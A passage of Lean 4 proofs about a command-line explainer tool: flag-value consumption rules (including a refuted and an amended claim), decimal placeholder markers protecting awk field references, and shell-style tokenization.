  c8_find_time_predicates "7" "  " [("-mtime", "x")] (by decide) (by decide)

end ExplainCli

namespace ExplainCli

theorem strStarts_dash_of_dashdash (s : String) (h : strStarts s "--" = true) :
    strStarts s "-" = true := by
  unfold strStarts at h ⊢
  have h2 : "--".data = ['-', '-'] := rfl
  have h1 : "-".data = ['-'] := rfl
  rw [h2] at h
  rw [h1]
  match hm : s.data with
  | [] => rw [hm] at h; simp [listStarts] at h
  | c :: t =>
    rw [hm] at h
    simp only [listStarts, Bool.and_eq_true] at h ⊢
    exact ⟨h.1, trivial⟩

theorem consumedIdxAux_step (command arg next : String) (rest : List String) (i : Nat) :
    consumedIdxAux command (arg :: next :: rest) i =
      (if command = "kill" || command = "killall" then
        (match explain_signal_flag arg (some next) with
          | some _ =>
            if arg = "-s" && next ≠ "" && !strStarts next "-" then [i + 1] else []
          | none => []) ++ consumedIdxAux command (next :: rest) (i + 1)
      else if command ≠ "find" && strStarts arg "--" then
        if (pyPartitionEq arg).2.1 ≠ "" && (pyPartitionEq arg).2.2 ≠ "" then
          consumedIdxAux command (next :: rest) (i + 1)
        else if !strStarts next "-" then (i + 1) :: consumedIdxAux command rest (i + 2)
        else consumedIdxAux command (next :: rest) (i + 1)
      else consumedIdxAux command (next :: rest) (i + 1)) := rfl

theorem consumedIdx_mem_of_long_flag (cmd arg val : String) (post : List String)
    (hkill : cmd ≠ "kill") (hkillall : cmd ≠ "killall") (hfind : cmd ≠ "find")
    (harg : strStarts arg "--" = true)
    (hne : splitFirstChar '=' arg.data = none)
    (hval : strStarts val "-" = false) :
    ∀ (k : Nat) (l : List String), l.length ≤ k → ∀ i,
      (i + l.length + 1) ∈ consumedIdxAux cmd (l ++ arg :: val :: post) i := by
  have hdash : strStarts arg "-" = true := strStarts_dash_of_dashdash arg harg
  have hpart : pyPartitionEq arg = (arg, "", "") := by
    unfold pyPartitionEq
    rw [hne]
  have base : ∀ i, (i + 1) ∈ consumedIdxAux cmd (arg :: val :: post) i := by
    intro i
    rw [consumedIdxAux_step]
    rw [if_neg (by simp [hkill, hkillall])]
    rw [if_pos (by simp [hfind, harg])]
    rw [hpart]
    rw [if_neg (by simp)]
    rw [if_pos (by simp [hval])]
    exact List.mem_cons_self _ _
  intro k
  induction k with
  | zero =>
    intro l hl i
    obtain rfl : l = [] := List.length_eq_zero.mp (Nat.le_zero.mp hl)
    simpa using base i
  | succ k ih =>
    intro l hl i
    match l with
    | [] => simpa using base i
    | x :: l' =>
      cases l' with
      | nil =>
        simp only [List.cons_append, List.nil_append, List.length_cons, List.length_nil]
        rw [consumedIdxAux_step]
        rw [if_neg (by simp [hkill, hkillall])]
        have tailmem : (i + 0 + 1 + 1) ∈ consumedIdxAux cmd (arg :: val :: post) (i + 1) := by
          simpa using base (i + 1)
        by_cases hx : (decide ¬(cmd = "find") && strStarts x "--") = true
        · rw [if_pos hx]
          split_ifs with hp hq
          · simpa using tailmem
          · exfalso
            simp only [Bool.not_eq_true'] at hq
            rw [hdash] at hq
            exact Bool.noConfusion hq
          · simpa using tailmem
        · rw [if_neg hx]
          simpa using tailmem
      | cons y l'' =>
        simp only [List.cons_append, List.length_cons]
        rw [consumedIdxAux_step]
        rw [if_neg (by simp [hkill, hkillall])]
        have hlen : l''.length + 1 ≤ k := by
          simp only [List.length_cons] at hl
          omega
        have tailmem : (i + 1 + (y :: l'').length + 1) ∈
            consumedIdxAux cmd ((y :: l'') ++ arg :: val :: post) (i + 1) :=
          ih (y :: l'') (by simpa using hlen) (i + 1)
        have tailmem2 : (i + 2 + l''.length + 1) ∈
            consumedIdxAux cmd (l'' ++ arg :: val :: post) (i + 2) :=
          ih l'' (by omega) (i + 2)
        have hidx : i + (l''.length + 1 + 1) + 1 = i + 1 + (y :: l'').length + 1 := by
          simp only [List.length_cons]
          omega
        have hidx2 : i + (l''.length + 1 + 1) + 1 = i + 2 + l''.length + 1 := by
          omega
        by_cases hx : (decide ¬(cmd = "find") && strStarts x "--") = true
        · rw [if_pos hx]
          split_ifs with hp hq
          · rw [hidx]
            simpa using tailmem
          · rw [hidx2]
            exact List.mem_cons_of_mem _ (by simpa using tailmem2)
          · rw [hidx]
            simpa using tailmem
        · rw [if_neg hx]
          rw [hidx]
          simpa using tailmem

/-- C10 (amended): for a command other than find/kill/killall, an argument
token starting with `--` and containing no `=`, followed by a token not
starting with `-`, consumes that following token: its index enters the
consumed set and (when it occurs nowhere else in the segment) it is excluded
from the positional-argument set.  (The original claim's stronger "appears
nowhere in the output" is refuted separately: the consumed token can still be
rendered, e.g. as a recognized-subcommand line.) -/
theorem c10_long_flag_value_consumption (cmd arg val : String) (pre post : List String)
    (rts : List Nat) (subs : List (String × String))
    (hkill : cmd ≠ "kill") (hkillall : cmd ≠ "killall") (hfind : cmd ≠ "find")
    (harg : strStarts arg "--" = true)
    (hne : splitFirstChar '=' arg.data = none)
    (hval : strStarts val "-" = false)
    (hvpre : val ∉ pre) (hvpost : val ∉ post) (hva : val ≠ arg) :
    (pre.length + 1) ∈ consumedIdxAux cmd (pre ++ arg :: val :: post) 0 ∧
    val ∉ positionalArgs (pre ++ arg :: val :: post)
      (consumedIdxAux cmd (pre ++ arg :: val :: post) 0) rts subs := by
  have hcons : (pre.length + 1) ∈ consumedIdxAux cmd (pre ++ arg :: val :: post) 0 := by
    simpa using consumedIdx_mem_of_long_flag cmd arg val post hkill hkillall hfind
      harg hne hval pre.length pre (le_refl _) 0
  refine ⟨hcons, ?_⟩
  intro hmem
  unfold positionalArgs at hmem
  obtain ⟨⟨i, s⟩, hin, hf⟩ := List.mem_filterMap.mp hmem
  split at hf
  case isFalse => exact Option.noConfusion hf
  case isTrue hc =>
    have hsval : s = val := Option.some.inj hf
    subst hsval
    simp only [Bool.and_eq_true, decide_eq_true_eq] at hc
    have hinc : i ∉ consumedIdxAux cmd (pre ++ arg :: s :: post) 0 := hc.1.1.1
    have hget : (pre ++ arg :: s :: post)[i]? = some s :=
      List.mk_mem_enum_iff_getElem?.mp hin
    by_cases hlt : i < pre.length
    · rw [List.getElem?_append_left hlt] at hget
      exact hvpre (List.getElem?_mem hget)
    · push_neg at hlt
      rw [List.getElem?_append_right hlt] at hget
      match hj : i - pre.length, hget with
      | 0, hget =>
        simp only [List.getElem?_cons_zero] at hget
        exact hva (Option.some.inj hget).symm
      | 1, hget =>
        have : i = pre.length + 1 := by omega
        subst this
        exact hinc hcons
      | (j + 2), hget =>
        simp only [List.getElem?_cons_succ] at hget
        exact hvpost (List.getElem?_mem hget)

/-- Counterexample to C10 as stated: with an unknown long flag `--unknown`
before `status`, the token `status` is consumed (index 1) and excluded from
the positional-argument set, yet the output still shows it as a
recognized-subcommand line, so it does not "appear nowhere in the output". -/
theorem c10_counterexample_value_in_output :
    (1 ∈ consumedIdxAux "foo" ["--unknown", "status"] 0) ∧
    positionalArgs ["--unknown", "status"]
      (consumedIdxAux "foo" ["--unknown", "status"] 0) []
      [("status", "Show status information")] = [] ∧
    (analyzeSingle
      (fun _ => ⟨true, "foo - a tool", [], [("status", "Show status information")]⟩)
      ["foo", "--unknown", "status"] []).1 =
      ["foo - a tool", "  status: Show status information"] ∧
    strHasSub "  status: Show status information" "status" = true := by
  decide

/-- Witness for C10 at a concrete instantiation. -/
theorem c10_witness :
    (([] : List String).length + 1) ∈
      consumedIdxAux "foo" ([] ++ "--unknown" :: "status" :: []) 0 ∧
    "status" ∉ positionalArgs ([] ++ "--unknown" :: "status" :: [])
      (consumedIdxAux "foo" ([] ++ "--unknown" :: "status" :: []) 0) []
      [("status", "Show status information")] :=
  c10_long_flag_value_consumption "foo" "--unknown" "status" [] [] [] [("status", "Show status information")]
    (by decide) (by decide) (by decide) (by decide) (by decide) (by decide)
    (by decide) (by decide) (by decide)


end ExplainCli
namespace ExplainCli

/-- Decimal value of a digit string (the reading inverse of `natDecimal`). -/
def decValChars (l : List Char) : Nat :=
  l.foldl (fun acc c => 10 * acc + (c.toNat - '0'.toNat)) 0

theorem natDecimalAux_zero (fuel : Nat) : natDecimalAux fuel 0 = [] := by
  cases fuel <;> simp [natDecimalAux]

theorem decValChars_append_singleton (l : List Char) (c : Char) :
    decValChars (l ++ [c]) = 10 * decValChars l + (c.toNat - '0'.toNat) := by
  unfold decValChars
  rw [List.foldl_append]
  rfl

theorem digitChar_val (k : Nat) (h : k < 10) :
    (Nat.digitChar k).toNat - '0'.toNat = k := by
  interval_cases k <;> decide

theorem digitChar_isDigit (k : Nat) (h : k < 10) :
    (Nat.digitChar k).isDigit = true := by
  interval_cases k <;> decide

theorem decValChars_natDecimalAux : ∀ (fuel n : Nat), n ≤ fuel →
    decValChars (natDecimalAux fuel n) = n := by
  intro fuel
  induction fuel with
  | zero =>
    intro n hn
    obtain rfl : n = 0 := Nat.le_zero.mp hn
    simp [natDecimalAux, decValChars]
  | succ fuel ih =>
    intro n hn
    by_cases h0 : n = 0
    · subst h0
      simp [natDecimalAux, decValChars]
    · simp only [natDecimalAux, h0, if_false, if_neg h0]
      rw [decValChars_append_singleton]
      rw [ih (n / 10) (by
        have := Nat.div_lt_self (Nat.pos_of_ne_zero h0) (by norm_num : (1:Nat) < 10)
        omega)]
      rw [digitChar_val (n % 10) (Nat.mod_lt _ (by norm_num))]
      omega

theorem decValChars_natDecimal (n : Nat) : decValChars (natDecimal n) = n := by
  unfold natDecimal
  by_cases h0 : n = 0
  · subst h0
    simp [decValChars]
  · rw [if_neg h0]
    exact decValChars_natDecimalAux n n (le_refl n)

theorem natDecimal_inj {m n : Nat} (h : natDecimal m = natDecimal n) : m = n := by
  have := congrArg decValChars h
  rwa [decValChars_natDecimal, decValChars_natDecimal] at this

theorem natDecimalAux_all_digits : ∀ (fuel n : Nat),
    (natDecimalAux fuel n).all Char.isDigit = true := by
  intro fuel
  induction fuel with
  | zero => intro n; simp [natDecimalAux]
  | succ fuel ih =>
    intro n
    by_cases h0 : n = 0
    · simp [natDecimalAux, h0]
    · simp only [natDecimalAux, h0, if_false, if_neg h0]
      rw [List.all_append]
      simp [ih (n / 10), digitChar_isDigit (n % 10) (Nat.mod_lt _ (by norm_num))]

theorem natDecimal_all_digits (n : Nat) : (natDecimal n).all Char.isDigit = true := by
  unfold natDecimal
  by_cases h0 : n = 0
  · simp [h0]
  · rw [if_neg h0]
    exact natDecimalAux_all_digits n n

theorem natDecimal_ne_nil (n : Nat) : natDecimal n ≠ [] := by
  unfold natDecimal
  by_cases h0 : n = 0
  · simp [h0]
  · rw [if_neg h0]
    match n, h0 with
    | Nat.succ k, _ => simp [natDecimalAux]

theorem markerStr_data (n : Nat) :
    (markerStr n).data =
      ['_', '_', 'A', 'W', 'K', '_', 'F', 'I', 'E', 'L', 'D', '_'] ++
        natDecimal n ++ ['_', '_'] := by
  unfold markerStr
  rw [String.data_append, String.data_append]

end ExplainCli

namespace ExplainCli

theorem listStarts_mem {l m : List Char} (h : listStarts l m = true) :
    ∀ c ∈ m, c ∈ l := by
  obtain ⟨t, rfl⟩ := listStarts_exists_append h
  intro c hc
  exact List.mem_append_left _ hc

theorem listHasSub_mem {l m : List Char} (h : listHasSub l m = true) :
    ∀ c ∈ m, c ∈ l := by
  induction l with
  | nil =>
    unfold listHasSub at h
    simp only [List.isEmpty_iff] at h
    subst h
    intro c hc
    simp at hc
  | cons a l ih =>
    unfold listHasSub at h
    simp only [Bool.or_eq_true] at h
    rcases h with h | h
    · exact listStarts_mem h
    · intro c hc
      exact List.mem_cons_of_mem _ (ih h c hc)

theorem listStarts_append_cancel (x a b : List Char) :
    listStarts (x ++ a) (x ++ b) = listStarts a b := by
  induction x with
  | nil => rfl
  | cons c x ih => simp [listStarts, ih]

theorem listStarts_digits_us {a b : List Char} (ha : a.all Char.isDigit = true)
    (hb : b.all Char.isDigit = true)
    (h : listStarts (a ++ ['_', '_']) (b ++ ['_', '_']) = true) : a = b := by
  induction a generalizing b with
  | nil =>
    cases b with
    | nil => rfl
    | cons d b2 =>
      simp only [List.nil_append, List.cons_append, listStarts, Bool.and_eq_true,
        decide_eq_true_eq] at h
      have hd : d.isDigit = true := by
        simp only [List.all_cons, Bool.and_eq_true] at hb
        exact hb.1
      rw [← h.1] at hd
      exact absurd hd (by decide)
  | cons c a2 ih =>
    cases b with
    | nil =>
      simp only [List.cons_append, List.nil_append, listStarts, Bool.and_eq_true,
        decide_eq_true_eq] at h
      have hc : c.isDigit = true := by
        simp only [List.all_cons, Bool.and_eq_true] at ha
        exact ha.1
      rw [h.1] at hc
      exact absurd hc (by decide)
    | cons d b2 =>
      simp only [List.cons_append, listStarts, Bool.and_eq_true, decide_eq_true_eq] at h
      have ha2 : a2.all Char.isDigit = true := by
        simp only [List.all_cons, Bool.and_eq_true] at ha
        exact ha.2
      have hb2 : b2.all Char.isDigit = true := by
        simp only [List.all_cons, Bool.and_eq_true] at hb
        exact hb.2
      rw [h.1, ih ha2 hb2 h.2]

theorem marker_tail_no_A (k : Nat) :
    'A' ∉ (['W', 'K', '_', 'F', 'I', 'E', 'L', 'D', '_'] ++ natDecimal k ++ ['_', '_']) := by
  intro h
  simp only [List.append_assoc, List.mem_append] at h
  rcases h with h | h | h
  · revert h
    decide
  · have := natDecimal_all_digits k
    rw [List.all_eq_true] at this
    have := this 'A' h
    exact absurd this (by decide)
  · revert h
    decide

theorem marker_cons_form (k : Nat) :
    (markerStr k).data = '_' :: '_' :: 'A' ::
      (['W', 'K', '_', 'F', 'I', 'E', 'L', 'D', '_'] ++ natDecimal k ++ ['_', '_']) := by
  rw [markerStr_data]
  rfl

theorem listHasSub_cons (c : Char) (l m : List Char) :
    listHasSub (c :: l) m = (listStarts (c :: l) m || listHasSub l m) := rfl

theorem marker_no_sub {j k : Nat} (hjk : j ≠ k) :
    listHasSub (markerStr k).data (markerStr j).data = false := by
  by_contra hcon
  rw [Bool.not_eq_false] at hcon
  rw [marker_cons_form k] at hcon
  rw [listHasSub_cons] at hcon
  rw [listHasSub_cons] at hcon
  rw [listHasSub_cons] at hcon
  simp only [Bool.or_eq_true] at hcon
  rcases hcon with h | h | h | h
  · rw [← marker_cons_form k] at h
    rw [markerStr_data k, markerStr_data j, List.append_assoc, List.append_assoc,
      listStarts_append_cancel] at h
    have := listStarts_digits_us (natDecimal_all_digits k) (natDecimal_all_digits j) h
    exact hjk (natDecimal_inj this.symm)
  · rw [marker_cons_form j] at h
    simp only [listStarts, Bool.and_eq_true, decide_eq_true_eq] at h
    exact absurd h.2.1 (by decide)
  · rw [marker_cons_form j] at h
    simp only [listStarts, Bool.and_eq_true, decide_eq_true_eq] at h
    exact absurd h.1 (by decide)
  · have hA : 'A' ∈ (markerStr j).data := by
      rw [marker_cons_form j]
      simp
    exact marker_tail_no_A k (listHasSub_mem h 'A' hA)

end ExplainCli

namespace ExplainCli

/-- The plain characters of the restricted tokenization theorem: no shell
whitespace, no quotes, no backslash. -/
def plainShChar (c : Char) : Bool :=
  !(c ∈ shWs) && !(c = '\'') && !(c = '"') && !(c = '\\')

/-- A run of the form `$` followed by one or more digits. -/
def isFieldRun (r : List Char) : Bool :=
  match r with
  | '$' :: ds => !ds.isEmpty && ds.all Char.isDigit
  | _ => false

/-- No character `$` immediately followed by a digit inside the run. -/
def noDollarDigit : List Char → Bool
  | [] => true
  | [_] => true
  | a :: b :: rest => !(a = '$' && b.isDigit) && noDollarDigit (b :: rest)

/-- The characters of the placeholder stem `__AWK_FIELD_`. -/
def mStem : List Char := ['_', '_', 'A', 'W', 'K', '_', 'F', 'I', 'E', 'L', 'D', '_']

/-- Runs joined by single spaces (the restricted input shape). -/
def joinRuns : List (List Char) → List Char
  | [] => []
  | [r] => r
  | r :: rs => r ++ ' ' :: joinRuns rs

/-- What the protection pass does to such an input, run by run. -/
def protectRuns : List (List Char) → Nat → List (List Char) × List (List Char × List Char)
  | [], _ => ([], [])
  | r :: rs, n =>
    if isFieldRun r then
      let p := protectRuns rs (n + 1)
      ((markerStr n).data :: p.1, ((markerStr n).data, r) :: p.2)
    else
      let p := protectRuns rs n
      (r :: p.1, p.2)

theorem restoreToken_nil (t : List Char) : restoreToken [] t = t := rfl

theorem restoreToken_cons (p : List Char × List Char) (ps : List (List Char × List Char))
    (t : List Char) : restoreToken (p :: ps) t = restoreToken ps (replaceAll t p.1 p.2) := rfl

theorem restoreToken_append (ps qs : List (List Char × List Char)) (t : List Char) :
    restoreToken (ps ++ qs) t = restoreToken qs (restoreToken ps t) := by
  unfold restoreToken
  rw [List.foldl_append]

theorem replaceAllAux_no_occur (m r : List Char) :
    ∀ t : List Char, listHasSub t m = false → replaceAllAux m r t = t := by
  intro t
  induction t with
  | nil => intro h; simp [replaceAllAux]
  | cons c rest ih =>
    intro h
    rw [listHasSub_cons] at h
    simp only [Bool.or_eq_false_iff] at h
    rw [replaceAllAux]
    rw [if_neg (by simp [h.1])]
    rw [ih h.2]

theorem replaceAll_no_occur (t m r : List Char) (h : listHasSub t m = false) :
    replaceAll t m r = t := by
  unfold replaceAll
  by_cases hm : m.isEmpty
  · rw [if_pos hm]
  · rw [if_neg hm]
    exact replaceAllAux_no_occur m r t h

theorem replaceAll_self (m r : List Char) (hm : m ≠ []) : replaceAll m m r = r := by
  unfold replaceAll
  rw [if_neg (by simp [hm])]
  match m, hm with
  | c :: m2, _ =>
    rw [replaceAllAux]
    rw [if_pos (by simp [listStarts_refl])]
    rw [List.drop_length]
    rw [replaceAllAux]
    simp

theorem listStarts_append_self (a x : List Char) : listStarts (a ++ x) a = true := by
  induction a with
  | nil => simp [listStarts]
  | cons c a2 ih => simp [listStarts, ih]

theorem listStarts_of_starts_append {l a b : List Char}
    (h : listStarts l (a ++ b) = true) : listStarts l a = true := by
  obtain ⟨t, rfl⟩ := listStarts_exists_append h
  rw [List.append_assoc]
  exact listStarts_append_self a (b ++ t)

theorem listHasSub_of_sub_append {t a b : List Char}
    (h : listHasSub t (a ++ b) = true) : listHasSub t a = true := by
  induction t with
  | nil =>
    unfold listHasSub at h
    simp only [List.isEmpty_iff, List.append_eq_nil] at h
    unfold listHasSub
    simp [h.1]
  | cons c rest ih =>
    rw [listHasSub_cons] at h ⊢
    simp only [Bool.or_eq_true] at h ⊢
    rcases h with h | h
    · exact Or.inl (listStarts_of_starts_append h)
    · exact Or.inr (ih h)

theorem hasSub_false_head_not_mem (t : List Char) (c : Char) (m2 : List Char)
    (h : c ∉ t) : listHasSub t (c :: m2) = false := by
  induction t with
  | nil => rfl
  | cons a rest ih =>
    rw [listHasSub_cons]
    simp only [Bool.or_eq_false_iff]
    constructor
    · simp only [listStarts, Bool.and_eq_false_iff]
      left
      simp only [decide_eq_false_iff_not]
      intro hac
      exact h (by rw [hac]; exact List.mem_cons_self _ _)
    · exact ih (fun hc => h (List.mem_cons_of_mem _ hc))

theorem marker_head_cons (n : Nat) :
    ∃ m2, (markerStr n).data = '_' :: m2 := by
  rw [marker_cons_form]
  exact ⟨_, rfl⟩

theorem restore_dollar_digits (ps : List (List Char × List Char)) (ds : List Char)
    (hps : ∀ p ∈ ps, ∃ m : Nat, p.1 = (markerStr m).data)
    (hd : ds.all Char.isDigit = true) :
    restoreToken ps ('$' :: ds) = '$' :: ds := by
  induction ps with
  | nil => rfl
  | cons p ps ih =>
    rw [restoreToken_cons]
    obtain ⟨m, hm⟩ := hps p (List.mem_cons_self _ _)
    obtain ⟨m2, hm2⟩ := marker_head_cons m
    have hno : listHasSub ('$' :: ds) p.1 = false := by
      rw [hm, hm2]
      apply hasSub_false_head_not_mem
      intro hin
      rcases List.mem_cons.mp hin with h1 | h1
      · exact absurd h1.symm (by decide)
      · rw [List.all_eq_true] at hd
        exact absurd (hd '_' h1) (by decide)
    rw [replaceAll_no_occur _ _ _ hno]
    exact ih (fun q hq => hps q (List.mem_cons_of_mem _ hq))

theorem restore_plain_token (ps : List (List Char × List Char)) (t : List Char)
    (hps : ∀ p ∈ ps, ∃ m : Nat, p.1 = (markerStr m).data)
    (hno : listHasSub t mStem = false) :
    restoreToken ps t = t := by
  induction ps with
  | nil => rfl
  | cons p ps ih =>
    rw [restoreToken_cons]
    obtain ⟨m, hm⟩ := hps p (List.mem_cons_self _ _)
    have hnop : listHasSub t p.1 = false := by
      rw [hm, markerStr_data]
      by_contra hcon
      rw [Bool.not_eq_false] at hcon
      have : listHasSub t (mStem ++ natDecimal m) = true := by
        rw [List.append_assoc] at hcon
        exact listHasSub_of_sub_append hcon
      have : listHasSub t mStem = true := listHasSub_of_sub_append this
      rw [this] at hno
      exact Bool.noConfusion hno
    rw [replaceAll_no_occur _ _ _ hnop]
    exact ih (fun q hq => hps q (List.mem_cons_of_mem _ hq))

end ExplainCli

namespace ExplainCli

theorem takeWhile_append_all {p : Char → Bool} {l1 : List Char} (l2 : List Char)
    (h : l1.all p = true) : (l1 ++ l2).takeWhile p = l1 ++ l2.takeWhile p := by
  induction l1 with
  | nil => simp
  | cons c l ih =>
    simp only [List.all_cons, Bool.and_eq_true] at h
    simp [List.takeWhile_cons, h.1, ih h.2]

theorem dropWhile_append_all {p : Char → Bool} {l1 : List Char} (l2 : List Char)
    (h : l1.all p = true) : (l1 ++ l2).dropWhile p = l2.dropWhile p := by
  induction l1 with
  | nil => simp
  | cons c l ih =>
    simp only [List.all_cons, Bool.and_eq_true] at h
    simp [List.dropWhile_cons, h.1, ih h.2]

theorem takeWhile_isEmpty_head {p : Char → Bool} (c : Char) (l : List Char)
    (h : p c = false) : ((c :: l).takeWhile p).isEmpty = true := by
  simp [List.takeWhile_cons, h]

/-- The boundary after a run: end of input or a space then more input. -/
def runBoundary (tail : List Char) : Prop :=
  tail = [] ∨ ∃ t2, tail = ' ' :: t2

theorem boundary_takeWhile_digit_empty {tail : List Char} (h : runBoundary tail) :
    tail.takeWhile Char.isDigit = [] := by
  rcases h with rfl | ⟨t2, rfl⟩
  · rfl
  · simp [List.takeWhile_cons]

theorem boundary_dropWhile_digit {tail : List Char} (h : runBoundary tail) :
    tail.dropWhile Char.isDigit = tail := by
  rcases h with rfl | ⟨t2, rfl⟩
  · rfl
  · simp [List.dropWhile_cons]

theorem protectAux_nil (n : Nat) : protectAux [] n = ([], []) := by
  simp [protectAux]

theorem protectAux_field (ds : List Char) (tail : List Char) (n : Nat)
    (hne : ds ≠ []) (hd : ds.all Char.isDigit = true) (hb : runBoundary tail) :
    protectAux (('$' :: ds) ++ tail) n =
      ((markerStr n).data ++ (protectAux tail (n + 1)).1,
        ((markerStr n).data, '$' :: ds) :: (protectAux tail (n + 1)).2) := by
  have htake : (ds ++ tail).takeWhile Char.isDigit = ds := by
    rw [takeWhile_append_all tail hd, boundary_takeWhile_digit_empty hb, List.append_nil]
  have hdrop : (ds ++ tail).dropWhile Char.isDigit = tail := by
    rw [dropWhile_append_all tail hd, boundary_dropWhile_digit hb]
  rw [List.cons_append]
  rw [protectAux]
  rw [if_pos (by
    rw [htake]
    simp [hne])]
  rw [htake, hdrop]

theorem protectAux_plain_step (c : Char) (rest : List Char) (n : Nat)
    (hc : ¬(c = '$' ∧ ((rest.takeWhile Char.isDigit).isEmpty = false))) :
    protectAux (c :: rest) n =
      (c :: (protectAux rest n).1, (protectAux rest n).2) := by
  rw [protectAux]
  rw [if_neg (by
    simp only [Bool.and_eq_true, decide_eq_true_eq, Bool.not_eq_true']
    rintro ⟨h1, h2⟩
    exact hc ⟨h1, h2⟩)]

theorem protectAux_plain_run (r : List Char) (tail : List Char) (n : Nat)
    (hdd : noDollarDigit r = true) (hb : runBoundary tail) :
    protectAux (r ++ tail) n =
      (r ++ (protectAux tail n).1, (protectAux tail n).2) := by
  induction r with
  | nil => simp
  | cons c r2 ih =>
    have hdd2 : noDollarDigit r2 = true := by
      cases r2 with
      | nil => rfl
      | cons b r3 =>
        unfold noDollarDigit at hdd
        simp only [Bool.and_eq_true] at hdd
        exact hdd.2
    have hstep : ¬(c = '$' ∧ (((r2 ++ tail).takeWhile Char.isDigit).isEmpty = false)) := by
      rintro ⟨rfl, hdig⟩
      cases r2 with
      | nil =>
        simp only [List.nil_append] at hdig
        rw [boundary_takeWhile_digit_empty hb] at hdig
        simp at hdig
      | cons b r3 =>
        have hbnd : b.isDigit = false := by
          by_contra hbb
          rw [Bool.not_eq_false] at hbb
          simp [noDollarDigit, hbb] at hdd
        rw [List.cons_append] at hdig
        rw [takeWhile_isEmpty_head b (r3 ++ tail) hbnd] at hdig
        exact Bool.noConfusion hdig
    rw [List.cons_append, protectAux_plain_step c (r2 ++ tail) n hstep, ih hdd2]
    rfl

theorem protectAux_sep (rest : List Char) (n : Nat) :
    protectAux (' ' :: rest) n =
      (' ' :: (protectAux rest n).1, (protectAux rest n).2) := by
  apply protectAux_plain_step
  rintro ⟨h, _⟩
  exact absurd h (by decide)

theorem isFieldRun_elim {r : List Char} (h : isFieldRun r = true) :
    ∃ ds, r = '$' :: ds ∧ ds ≠ [] ∧ ds.all Char.isDigit = true := by
  unfold isFieldRun at h
  split at h
  · rename_i ds
    simp only [Bool.and_eq_true] at h
    refine ⟨ds, rfl, ?_, h.2⟩
    intro hnil
    rw [hnil] at h
    simp at h
  · exact Bool.noConfusion h

theorem isFieldRun_false_of_noDD {r : List Char} (hp : noDollarDigit r = true) :
    isFieldRun r = false := by
  by_contra hcon
  rw [Bool.not_eq_false] at hcon
  obtain ⟨ds, rfl, hne, hd⟩ := isFieldRun_elim hcon
  cases ds with
  | nil => exact hne rfl
  | cons d ds2 =>
    simp only [List.all_cons, Bool.and_eq_true] at hd
    simp [noDollarDigit, hd.1] at hp

theorem protectRuns_nil (n : Nat) : protectRuns [] n = ([], []) := rfl

theorem protectRuns_cons_field (r : List Char) (rs : List (List Char)) (n : Nat)
    (h : isFieldRun r = true) :
    protectRuns (r :: rs) n =
      ((markerStr n).data :: (protectRuns rs (n + 1)).1,
        ((markerStr n).data, r) :: (protectRuns rs (n + 1)).2) := by
  conv_lhs => rw [protectRuns]
  rw [if_pos h]

theorem protectRuns_cons_plain (r : List Char) (rs : List (List Char)) (n : Nat)
    (h : isFieldRun r = false) :
    protectRuns (r :: rs) n = (r :: (protectRuns rs n).1, (protectRuns rs n).2) := by
  conv_lhs => rw [protectRuns]
  rw [if_neg (by simp [h])]

theorem protectRuns_fst_ne_nil (q : List Char) (qs : List (List Char)) (m : Nat) :
    (protectRuns (q :: qs) m).1 ≠ [] := by
  unfold protectRuns
  split <;> simp

theorem joinRuns_cons_ne (x : List Char) (l : List (List Char)) (h : l ≠ []) :
    joinRuns (x :: l) = x ++ ' ' :: joinRuns l := by
  cases l with
  | nil => exact absurd rfl h
  | cons a as => rfl

theorem protectAux_joinRuns (runs : List (List Char)) : ∀ n : Nat,
    (∀ r ∈ runs, isFieldRun r = true ∨ noDollarDigit r = true) →
    protectAux (joinRuns runs) n =
      (joinRuns (protectRuns runs n).1, (protectRuns runs n).2) := by
  induction runs with
  | nil =>
    intro n _
    simp [joinRuns, protectRuns, protectAux]
  | cons r rs ih =>
    intro n hc
    have hr := hc r (List.mem_cons_self _ _)
    have hrs : ∀ q ∈ rs, isFieldRun q = true ∨ noDollarDigit q = true :=
      fun q hq => hc q (List.mem_cons_of_mem _ hq)
    cases rs with
    | nil =>
      have hjoin : joinRuns [r] = r ++ [] := by
        rw [List.append_nil]
        rfl
      rcases hr with hf | hp
      · obtain ⟨ds, rfl, hne, hd⟩ := isFieldRun_elim hf
        rw [hjoin, protectAux_field ds [] n hne hd (Or.inl rfl)]
        rw [protectAux_nil, protectRuns_cons_field _ _ _ hf, protectRuns_nil]
        simp [joinRuns]
      · rw [hjoin, protectAux_plain_run r [] n hp (Or.inl rfl)]
        rw [protectAux_nil, protectRuns_cons_plain _ _ _ (isFieldRun_false_of_noDD hp),
          protectRuns_nil]
        simp [joinRuns]
    | cons r2 rs2 =>
      have hb : runBoundary (' ' :: joinRuns (r2 :: rs2)) := Or.inr ⟨_, rfl⟩
      have hjoin : joinRuns (r :: r2 :: rs2) = r ++ ' ' :: joinRuns (r2 :: rs2) := rfl
      rcases hr with hf | hp
      · obtain ⟨ds, rfl, hne, hd⟩ := isFieldRun_elim hf
        rw [hjoin, protectAux_field ds _ n hne hd hb, protectAux_sep, ih (n + 1) hrs]
        rw [protectRuns_cons_field _ _ _ hf]
        rw [joinRuns_cons_ne _ _ (protectRuns_fst_ne_nil r2 rs2 (n + 1))]
      · rw [hjoin, protectAux_plain_run r _ n hp hb, protectAux_sep, ih n hrs]
        rw [protectRuns_cons_plain _ _ _ (isFieldRun_false_of_noDD hp)]
        rw [joinRuns_cons_ne _ _ (protectRuns_fst_ne_nil r2 rs2 n)]

end ExplainCli

namespace ExplainCli

theorem plainShChar_elim {c : Char} (h : plainShChar c = true) :
    c ∉ shWs ∧ c ≠ '\'' ∧ c ≠ '"' ∧ c ≠ '\\' := by
  unfold plainShChar at h
  simp only [Bool.and_eq_true, Bool.not_eq_true', decide_eq_false_iff_not] at h
  exact ⟨h.1.1.1, h.1.1.2, h.1.2, h.2⟩

theorem shlexCore_norm_cons (cur : Option (List Char)) (acc : List (List Char))
    (c : Char) (rest : List Char) :
    shlexCore .norm cur acc (c :: rest) =
      if c ∈ shWs then
        (match cur with
          | some t => shlexCore .norm none (acc ++ [t]) rest
          | none => shlexCore .norm none acc rest)
      else if c = '\'' then shlexCore .squote (some (cur.getD [])) acc rest
      else if c = '"' then shlexCore .dquote (some (cur.getD [])) acc rest
      else if c = '\\' then shlexCore .escNorm (some (cur.getD [])) acc rest
      else shlexCore .norm (some (cur.getD [] ++ [c])) acc rest := rfl

theorem shlexCore_norm_nil (cur : Option (List Char)) (acc : List (List Char)) :
    shlexCore .norm cur acc [] =
      some (match cur with | some t => acc ++ [t] | none => acc) := rfl

theorem shlexCore_plain_char (c : Char) (hc : plainShChar c = true)
